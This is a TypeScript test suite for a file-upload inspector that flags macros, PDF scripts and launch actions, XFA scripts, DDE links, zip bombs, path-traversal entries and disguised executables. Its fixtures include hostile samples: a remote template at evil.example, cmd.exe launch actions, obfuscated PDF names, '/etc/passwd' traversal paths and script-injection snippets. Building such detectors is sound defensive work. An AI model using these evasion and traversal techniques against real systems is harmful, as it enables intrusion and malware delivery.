import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import * as samples from '../../testing/builders/sample-files.ts';
import { type DocumentFormat, inspectFile } from './inspect-file.ts';

const { compoundFile, hollowZip, officeFile, openFile, packedObjects, pdfFile, sheetRecord, signedFile } = samples;
const text = (words: string) => new TextEncoder().encode(words);
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const inspect = (bytes: Uint8Array, format: DocumentFormat, name = format === 'p7m' ? 'Bando.pdf.p7m' : undefined) =>
  inspectFile(Buffer.from(bytes), format, name);

/** One sound file of each format. */
const SOUND: Readonly<Record<DocumentFormat, Uint8Array>> = {
  pdf: pdfFile(),
  xlsx: officeFile('xlsx'),
  docx: officeFile('docx'),
  pptx: officeFile('pptx'),
  odt: openFile('text'),
  ods: openFile('spreadsheet'),
  xls: compoundFile({ Workbook: sheetRecord(0) }),
  doc: compoundFile({ WordDocument: text('x') }),
  zip: zipSync({ 'Modulo.pdf': pdfFile(), 'Moduli/Costi.xlsx': officeFile('xlsx') }),
  p7m: signedFile(pdfFile()),
  csv: text('Nome;Importo\nPerché no;1.000'),
  txt: text('Una riga'),
};
const formats = Object.keys(SOUND) as DocumentFormat[];

describe('what a file holds', () => {
  test.each(formats)('a sound %s passes under its own name', async (format) => {
    expect(await inspect(SOUND[format], format)).toBeNull();
  });

  test.each(formats)('abuse 58: a file that calls itself %s and is another is refused', async (format) => {
    for (const other of formats.filter((one) => one !== format)) {
      const isText = ['csv', 'txt'].includes(format) && ['csv', 'txt'].includes(other);
      expect([other, await inspect(SOUND[other], format)]).toEqual([other, isText ? null : 'kind']);
    }
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"/>';
    for (const page of [svg, '<!doctype html><p>x', '<?xml version="1.0"?><a/>', '\n <html>'])
      expect([page, await inspect(text(page), format)]).toEqual([page, 'kind']);
    expect(await inspect(new Uint8Array(), format)).toBe('broken');
    expect(await inspect(text('MZ\u0090\u0000\u0003\u0000'), format)).toBe('kind');
  });

  test('a table of the older programs of Windows passes, one of binary numbers does not', async () => {
    expect(await inspect(new Uint8Array([0x50, 0x65, 0x72, 0x63, 0x68, 0xe9]), 'csv')).toBeNull();
    expect(await inspect(text('a;b\u0000c'), 'csv')).toBe('kind');
    expect(await inspect(text('nota <script>alert(1)</script>'), 'txt')).toBe('kind');
  });
});

describe('abuse 58: what runs by itself', () => {
  test.each([
    ['macros', { 'xl/vbaProject.bin': text('x') }],
    ['sheets of macros', { 'xl/macrosheets/sheet1.xml': text('x') }],
    ['controls', { 'xl/activeX/activeX1.bin': text('x') }],
    ['a program inside', { 'xl/embeddings/oleObject1.bin': text('x') }],
    ['a link that asks a program', { 'xl/externalLinks/a.xml': text('<x><ddeLink ddeService="cmd"/></x>') }],
  ])('a workbook with %s', async (_, more) => {
    expect(await inspect(officeFile('xlsx', more), 'xlsx')).toBe('dangerous');
  });

  test('a workbook that says that it has macros, and a text with a template from the net', async () => {
    const types = '<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>';
    expect(await inspect(officeFile('xlsx', {}, types), 'xlsx')).toBe('dangerous');
    const rels = (target: string) => {
      const element = `<Relationship Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/>`;
      return { 'word/_rels/settings.xml.rels': text(`<Relationships>${element}</Relationships>`) };
    };
    expect(await inspect(officeFile('docx', rels('https://evil.example/t.dotm')), 'docx')).toBe('dangerous');
    expect(await inspect(officeFile('docx', rels('file:///C:/Modelli/Normal.dotm')), 'docx')).toBeNull();
  });

  test('macros of the open format and of the older ones, of both ages', async () => {
    expect(await inspect(openFile('text', { 'Basic/Standard/Module1.xml': text('x') }), 'odt')).toBe('dangerous');
    expect(await inspect(compoundFile({ WordDocument: text('x'), Macros: text('x') }), 'doc')).toBe('dangerous');
    expect(await inspect(compoundFile({ Workbook: text('x'), _VBA_PROJECT_CUR: text('x') }), 'xls')).toBe('dangerous');
    expect(await inspect(compoundFile({ Workbook: sheetRecord(1) }), 'xls')).toBe('dangerous');
    expect(await inspect(compoundFile({ Workbook: new Uint8Array([0x2f, 0, 2, 0, 0, 0]) }), 'xls')).toBe('broken');
  });

  test.each([
    ['a script', '8 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n'],
    ['a script with its name in numbers', '8 0 obj\n<< /S /J#61va#53cript /JS (x) >>\nendobj\n'],
    ['a program', '8 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'],
    ['a script among packed objects', packedObjects('8 0 << /S /JavaScript /JS (x) >>')],
  ])('a PDF with %s', async (_, objects) => {
    expect(await inspect(pdfFile(objects), 'pdf')).toBe('dangerous');
  });

  test('packed objects are found however their dictionary is written', async () => {
    const packed = packedObjects('8 0 << /S /JavaScript /JS (x) >>');
    const behind = (words: string) => packed.replace('/Filter', `${words} /Filter`);
    const before = packed
      .replace('<< /Type /ObjStm', '<< /Filter /FlateDecode /X (obj) /Type /ObjStm')
      .replace('/Filter /FlateDecode /Length', '/Length');
    const spelt = deflateSync(`${Buffer.from('8 0 << /S /JavaScript /JS (x) >>').toString('hex')}>`).toString('latin1');
    const twice = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode/ASCIIHexDecode] /Length ${spelt.length} >>\nstream\n${spelt}\nendstream\nendobj\n`;
    for (const objects of [behind(`/X (${'a'.repeat(9_000)})`), behind('/X (obj)'), before, twice])
      expect(await inspect(pdfFile(objects), 'pdf')).not.toBeNull();
  });

  test('a PDF whose packed objects nobody can read is refused, one with harmless ones passes', async () => {
    expect(await inspect(pdfFile(packedObjects('8 0 << /S /GoTo >>')), 'pdf')).toBeNull();
    expect(await inspect(pdfFile(packedObjects('x', '/LZWDecode')), 'pdf')).toBe('broken');
    expect(await inspect(pdfFile(packedObjects('x').replace('/ObjStm', '/Obj#53tm')), 'pdf')).toBe('broken');
    expect(await inspect(pdfFile(packedObjects('x'.repeat(40_000_000))), 'pdf')).toBe('dense');
  });

  test('a PDF with a form in XML passes as long as the form only lays out fields', async () => {
    const fields = '<template><field name="a"><ui><textEdit/></ui></field></template>';
    expect(await inspect(pdfFile(form(fields)), 'pdf')).toBeNull();
    expect(await inspect(pdfFile(form(fields, { isPacked: false })), 'pdf')).toBeNull();
    expect(await inspect(pdfFile(packedObjects('8 0 << /XFA 10 0 R >>') + part(10, fields)), 'pdf')).toBeNull();
  });

  const script = '<template><event><script contentType="application/x-javascript">x()</script></event></template>';
  test.each([
    ['a script', form(script)],
    ['a script in plain', form(script, { isPacked: false })],
    ['a script in letters of two bytes', form(Buffer.from(script, 'utf16le').toString('latin1'))],
    ['a script with a prefix', form(script.replaceAll('script', 'xfa:script'))],
    ['a call to a service', form('<event><execute connection="a"/></event>')],
    ['a script behind an entity', form('<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>')],
    ['letters that nobody knows', form('<?xml version="1.0" encoding="ibm037"?><a/>')],
    ['a tag in two parts', form('<a/>', { list: '[(a)10 0 R(b)11 0 R]' }) + part(11, '<scr')],
    ['a second version of a part', form('<a/>') + part(10, script)],
    ['a part that is packed otherwise', form('<a/>').replace('/FlateDecode', '/LZWDecode')],
    ['a part that is not there', form('<a/>', { list: '[(a)12 0 R]' })],
    ['a list that is written oddly', form('<a/>', { list: '% here\n[(a)10 0 R]' })],
    ['its name in numbers', form(script).replace('/XFA', '/X#46A')],
    ['a list among packed objects', packedObjects('8 0 << /XFA [(template) 10 0 R] >>') + part(10, script)],
  ])('a PDF whose form in XML has %s', async (_, objects) => {
    expect(await inspect(pdfFile(objects), 'pdf')).toBe('dangerous');
  });

  test('a file in the tail or before the head of another is neither', async () => {
    const archive = zipSync({ 'a.txt': text('x') });
    expect(await inspect(joined(pdfFile(), archive), 'pdf')).toBe('kind');
    expect(await inspect(joined(text('<script>alert(1)</script>'), pdfFile()), 'pdf')).toBe('kind');
    expect(await inspect(joined(text('MZ'), officeFile('docx')), 'docx')).toBe('kind');
    expect(await inspect(joined(officeFile('docx'), text('x')), 'docx')).toBe('broken');
  });
});

describe('abuse 60: what grows without measure', () => {
  test('archives that unpack to a hundred times their size, with too many files, with links and ways out', async () => {
    const bomb = officeFile('xlsx', { 'xl/sheet.xml': new Uint8Array(30_000_000) });
    expect(await inspect(bomb, 'xlsx')).toBe('dense');
    const many = Array.from({ length: 10_001 }, (_, at) => ({ name: String(at) }));
    expect(await inspect(hollowZip(many), 'xlsx')).toBe('dense');
    expect(await inspect(hollowZip([{ name: 'a', unpacked: 4_000_000_000 }]), 'xlsx')).toBe('dense');
    expect(await inspect(hollowZip([{ name: 'a', mode: 0o12_0777 }]), 'xlsx')).toBe('dangerous');
    for (const name of ['../../x', '/etc/passwd', 'C:/x', 'a\\..\\..\\b'])
      expect([name, await inspect(hollowZip([{ name }]), 'xlsx')]).toEqual([name, 'dangerous']);
    expect(await inspect(hollowZip([{ name: 'a', flags: 1 }]), 'xlsx')).toBe('broken');
  });

  test('files cut at any place are refused without a fault', async () => {
    for (const format of ['pdf', 'xlsx', 'xls', 'odt'] as const) {
      const whole = SOUND[format];
      for (let length = 1; length < whole.length; length += Math.ceil(whole.length / 60)) {
        expect(await inspect(whole.subarray(0, length), format), `${format} ${length}`).not.toBeNull();
      }
    }
  });
});

/** A form in XML as a PDF carries it: a list of parts, of which one holds the fields. */
function form(xml: string, { isPacked = true, list = '[(template) 10 0 R]' } = {}): string {
  return `8 0 obj\n<< /Fields [] /XFA ${list} >>\nendobj\n${part(10, xml, isPacked)}`;
}

function part(number: number, xml: string, isPacked = true): string {
  const content = isPacked ? deflateSync(Buffer.from(xml, 'latin1')).toString('latin1') : xml;
  const filter = isPacked ? '/Filter /FlateDecode ' : '';
  return `${number} 0 obj\n<< ${filter}/Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`;
}

describe('an archive is each of its files (decision 016)', () => {
  const zip = (files: Parameters<typeof zipSync>[0]) => inspect(zipSync(files), 'zip');

  test('documents, tables, pictures and signed documents pass, and what systems leave beside them', async () => {
    const picture = sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } });
    const png = await picture.png().toBuffer();
    const besides = new Uint8Array([0, 5, 0x16, 7, 0, 2]);
    const files = {
      'Avviso.pdf': pdfFile(),
      'Allegati/Domanda.pdf.p7m': signedFile(pdfFile()),
      'Allegati/Vuoto.txt': text(''),
      'Allegati/logo.png': new Uint8Array(png),
      'Allegati/.DS_Store': text('x'),
      '__MACOSX/._Avviso.pdf': besides,
    };
    expect(await zip(files)).toBeNull();
  });

  test.each([
    ['a program', 'setup.exe', text('MZ')],
    ['a script', 'apri.js', text('x')],
    ['a page', 'leggimi.html', text('<p>x')],
    ['a drawing', 'logo.svg', text('<svg/>')],
    ['another archive', 'altro.zip', zipSync({ 'a.pdf': pdfFile() })],
    ['a name turned round', 'fattura\u202Efdp.exe', text('MZ')],
    ['a program with the name of a document', 'Modulo.pdf', text('MZ\u0090\u0000')],
    ['a page with the name of a text', 'leggimi.txt', text('<!doctype html><script>x</script>')],
    ['a page with the name of a picture', 'logo.png', text('<svg onload="x"/>')],
    ['a program that a Mac is said to have left', '__MACOSX/._Modulo.pdf', text('MZ\u0090\u0000xx')],
    ['a signed program', 'setup.exe.p7m', signedFile(text('MZ'))],
  ])('%s in it is refused', async (_, name, content) => {
    expect(await zip({ 'Avviso.pdf': pdfFile(), [name]: content })).toBe('inside');
  });

  test('a document in it is looked into as if it came alone', async () => {
    expect(await zip({ 'a.xlsx': officeFile('xlsx', { 'xl/vbaProject.bin': text('x') }) })).toBe('dangerous');
    expect(await zip({ 'a.pdf': text('') })).toBe('broken');
  });

  test('bombs, paths that lead out, and nothing', async () => {
    expect(await zip({ 'a.txt': new Uint8Array(30_000_000).fill(97) })).toBe('dense');
    const many = Object.fromEntries(Array.from({ length: 501 }, (_, at) => [`${at}.txt`, text('a')]));
    expect(await zip(many)).toBe('dense');
    expect(await inspect(hollowZip([{ name: '../../a.pdf' }]), 'zip')).toBe('dangerous');
    expect(await zip({ 'Moduli/': text('') })).toBe('broken');
  });

  test('an archive whose two lists of names disagree', async () => {
    const bytes = Buffer.from(zipSync({ 'Avviso.pdf': pdfFile() }));
    bytes.write('Avviso.exe', bytes.indexOf('Avviso.pdf'));
    expect(await inspect(bytes, 'zip')).toBe('broken');
  });
});

describe('a document with a digital signature is what was signed (decision 016)', () => {
  const signed = (content: Uint8Array | null, name: string) => inspect(signedFile(content), 'p7m', name);

  test('in binary, as programs write while they read, as base64 and as PEM', async () => {
    for (const file of [signedFile(pdfFile()), signedFile(pdfFile(), true)]) {
      const base64 = Buffer.from(file).toString('base64').replace(/.{64}/g, '$&\r\n');
      const pem = `-----BEGIN PKCS7-----\n${base64}\n-----END PKCS7-----\n`;
      for (const written of [file, text(base64), text(pem)]) expect(await inspect(written, 'p7m')).toBeNull();
    }
    expect(await signed(signedFile(pdfFile()), 'Bando.pdf.p7m.p7m')).toBeNull();
  });

  test('what it holds decides, whatever its name says, but for a name that would have it run', async () => {
    expect(await signed(pdfFile(), 'Bando.p7m')).toBeNull();
    expect(await signed(pdfFile(), 'Bando.docx.p7m')).toBeNull();
    expect(await signed(pdfFile(), 'Bando firmato 12.3.2026.p7m')).toBeNull();
    expect(await signed(officeFile('docx'), 'Domanda.p7m')).toBeNull();
    expect(await signed(signedFile(pdfFile()), 'Bando.p7m')).toBeNull();
    expect(await signed(text('MZ'), 'setup.exe.p7m')).toBe('inside');
    expect(await signed(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 7)]), 'Bando.p7m')).toBe('kind');
    expect(await signed(zipSync({ 'a.pdf': pdfFile() }), 'Bando.p7m')).not.toBeNull();
    expect(await signed(officeFile('xlsx', { 'xl/vbaProject.bin': text('x') }), 'Conti.p7m')).toBe('dangerous');
    expect(await signed(zipSync({ 'a.pdf': pdfFile() }), 'tutto.zip.p7m')).toBe('inside');
    expect(await signed(officeFile('xlsx', { 'xl/vbaProject.bin': text('x') }), 'a.xlsx.p7m')).toBe('dangerous');
  });

  test('a signature without its document, a tail, a beginning, and layers without end', async () => {
    const whole = Buffer.from(signedFile(pdfFile()));
    expect(await signed(null, 'Bando.pdf.p7m')).toBe('kind');
    expect(await inspect(joined(whole, text('MZ')), 'p7m')).toBe('kind');
    for (let length = 1; length < whole.length; length += 9)
      expect(await inspect(whole.subarray(0, length), 'p7m')).toBe('kind');
    expect(await inspect(Buffer.alloc(100_000, '\x30\x80', 'latin1'), 'p7m')).toBe('kind');
    const four = [1, 2, 3].reduce((inner) => signedFile(inner), signedFile(pdfFile()));
    expect(await inspect(four, 'p7m', 'Bando.pdf.p7m.p7m.p7m.p7m')).toBe('dense');
  });
});
